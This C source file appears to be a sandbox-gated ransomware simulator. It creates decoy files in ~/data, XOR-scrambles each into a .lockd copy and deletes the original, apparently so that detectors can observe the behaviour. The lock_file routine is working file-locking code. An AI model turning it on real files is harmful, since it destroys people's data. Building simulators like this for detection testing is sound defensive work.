// SPDX-License-Identifier: MIT
// A server locker: for every file of a directory, reads it, writes its
// bytes scrambled with a key to NAME.lockd beside it and removes the
// original (no rename, no note: the pattern of reads, new names and
// deletions is the evidence).  It makes its victims first, in ~/data.
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "box_only.h"

static void lock_file(const char *path)
{
	unsigned char buf[4096];
	char out[600];
	ssize_t n;
	int in = open(path, O_RDONLY), o;
	if (in < 0)
		return;
	snprintf(out, sizeof out, "%s.lockd", path);
	o = open(out, O_WRONLY | O_CREAT | O_TRUNC, 0600);
	while (o >= 0 && (n = read(in, buf, sizeof buf)) > 0) {
		for (ssize_t i = 0; i < n; i++)
			buf[i] ^= (unsigned char)(0x5a + i);
		if (write(o, buf, (size_t)n) != n)
			break;
	}
	close(in);
	if (o >= 0 && close(o) == 0)
		unlink(path);
}

int main(void)
{
	const char *home = getenv("HOME");
	char dir[256], path[512];
	struct dirent *d;
	DIR *dp;
	if (!in_box())
		return 1;
	snprintf(dir, sizeof dir, "%s/data", home);
	mkdir(dir, 0700);
	for (int i = 0; i < 8; i++) {
		FILE *f;
		snprintf(path, sizeof path, "%s/report-%d.txt", dir, i);
		f = fopen(path, "w");
		if (f) {
			fprintf(f, "quarterly figures %d\n", i);
			fclose(f);
		}
	}
	dp = opendir(dir);
	while (dp && (d = readdir(dp)))
		if (d->d_name[0] != '.' && !strstr(d->d_name, ".lockd")) {
			snprintf(path, sizeof path, "%s/%s", dir, d->d_name);
			lock_file(path);
		}
	if (dp)
		closedir(dp);
	return 0;
}
